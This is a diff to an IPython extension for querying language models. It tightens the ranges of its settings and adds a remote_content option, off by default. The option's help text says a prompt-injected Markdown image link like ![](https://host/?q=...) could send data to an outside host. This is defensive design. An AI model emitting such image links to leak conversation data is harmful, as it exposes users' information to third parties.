@@ -28,7 +28,7 @@ from typing import TYPE_CHECKING, Any
 from IPython.core.error import UsageError
 from IPython.core.magic import Magics, line_cell_magic, magics_class
 from IPython.core.magic_arguments import argument, magic_arguments
-from traitlets import Bool, Enum, Float, Int, Unicode
+from traitlets import Bool, Enum, Float, Int, Unicode, observe
 
 from ._errors import ConfigError, LLMError
 
@@ -89,7 +89,7 @@ Line magic::
     %llm help                         this text
 
 Settings (`%config LLMMagics.<name> = value`): default_model, default_format,
-default_system, temperature, max_tokens, stream, update_interval, max_history, show_usage.
+default_system, temperature, max_tokens, stream, update_interval, max_history, show_usage, remote_content.
 """
 
 
@@ -134,22 +134,41 @@ class LLMMagics(Magics):
         config=True
     )
     temperature = Float(
-        None, allow_none=True, help="Temperature when -t is not given (None = provider default)."
+        None,
+        allow_none=True,
+        min=0.0,
+        max=2.0,
+        help="Temperature when -t is not given, 0 to 2 (None = provider default).",
     ).tag(config=True)
     max_tokens = Int(
-        None, allow_none=True, help="Answer length limit when --max-tokens is not given."
+        None, allow_none=True, min=1, help="Answer length limit when --max-tokens is not given."
     ).tag(config=True)
     stream = Bool(True, help="Stream answers into the cell as they arrive.").tag(config=True)
     update_interval = Float(
-        0.05, help="Seconds between display updates while streaming (the last one is always shown)."
+        0.05,
+        min=0.0,
+        help="Seconds between display updates while streaming (the last one is always shown).",
     ).tag(config=True)
     max_history = Int(
         20,
+        min=0,
         help="Earlier turns of a --session sent with each prompt (older ones are kept, not sent).",
     ).tag(config=True)
     show_usage = Bool(
         True, help="Show model, tokens, time and cost in small grey text under each answer."
     ).tag(config=True)
+    remote_content = Bool(
+        False,
+        help="Let answers shown as Markdown/HTML load remote images and resources. Off by "
+        "default: a prompt-injected ![](https://host/?q=...) would send data to that host "
+        "(local files and data: images always show).",
+    ).tag(config=True)
+
+    @observe("remote_content")
+    def _remote_content_changed(self, change: dict[str, Any]) -> None:
+        from ._safe_render import allow_remote
+
+        allow_remote(bool(change["new"]))
 
     def __init__(self, shell: Any = None, **kwargs: Any) -> None:
         super().__init__(shell=shell, **kwargs)
